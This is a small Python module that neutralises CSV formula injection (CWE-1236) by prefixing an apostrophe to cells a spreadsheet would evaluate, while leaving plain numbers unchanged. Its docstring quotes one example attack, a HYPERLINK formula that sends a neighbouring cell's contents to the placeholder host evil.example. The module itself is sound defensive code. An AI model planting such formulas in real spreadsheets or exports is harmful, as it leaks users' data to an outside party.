"""Cells that spreadsheets would run as formulas, made inert (CSV injection, CWE-1236).

Excel and LibreOffice treat a cell starting with ``=``, ``+``, ``-`` or ``@`` (and,
after trimming, tab or carriage return) as a formula: a referral target named
``=HYPERLINK("http://evil.example/?x="&A1;"Klick")`` would send the neighbouring
cells away. Such a cell gets a leading apostrophe, which the spreadsheet shows as
text. Numbers (``-3``, ``-2,5``) are left as they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")


def inert(cell: str) -> str:
    """The cell as text a spreadsheet shows and never evaluates."""
    if cell.startswith(_FORMULA_START) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def inert_rows(rows: Iterable[Iterable[str]]) -> Iterator[list[str]]:
    """Every cell of every row made inert; for every CSV the product writes."""
    for row in rows:
        yield [inert(cell) for cell in row]
